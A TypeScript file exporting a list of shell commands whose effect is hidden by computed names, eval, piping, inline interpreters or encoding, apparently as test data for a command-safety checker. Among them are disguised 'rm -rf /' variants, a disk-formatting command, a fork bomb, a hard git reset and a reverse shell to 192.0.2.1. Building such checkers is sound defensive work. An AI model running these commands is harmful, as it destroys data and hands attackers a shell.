/** Commands whose harm, or whose whole meaning, cannot be seen from their words alone. */
export const HIDDEN_COMMANDS: readonly string[] = [
  // Program names that are computed when the command runs.
  '$(printf to; printf uch) made',
  'a=to; b=uch; "$a$b" made',
  'x=$(cat name); $x --all',
  '/???/t?uch made',
  '$SHELL made.sh',
  'read -r line < orders; $line',
  // Scripts that are read or computed when the command runs.
  'eval "$(cat orders)"',
  'cat orders | sh',
  'bash <(cat orders)',
  'source ./orders',
  'sh <<< "$ORDERS"',
  'bash -c "$(tr a-z b-za < orders)"',
  'trap "$ORDERS" EXIT',
  "find . -name orders -exec sh {} ';'",
  'xargs -I{} sh -c "{}" < orders',
  'f() { "$@"; }; f touch made',
  // Code in other languages.
  `python3 -c "import os; os.write(1, b'x')"`,
  `perl -e 'print reverse("olleh")'`,
  `node -e 'console.log(1)'`,
  `awk 'BEGIN { print 1 }'`,
  // Commands that change what other programs do.
  'PATH=/tmp/own:$PATH ls',
  "git -c core.pager='touch made' log",
  'echo "* * * * * true" | tee orders',
  'git reset --hard HEAD~3',
  'find . -name "*.tmp" -delete',
  // Harmful commands in an unusual spelling.
  "r''m -rf /",
  '$(echo cm0gLXJmIC8K | base64 -d)',
  "echo 'cm0gLXJmIH4K' | base64 -d | bash",
  `x=rm; y=-rf; $x $y /`,
  "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
  'env -i bash -c "mkfs.ext4 /dev/sda"',
  'find / -exec rm -rf {} +',
  ':(){ :|:& };:',
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
];
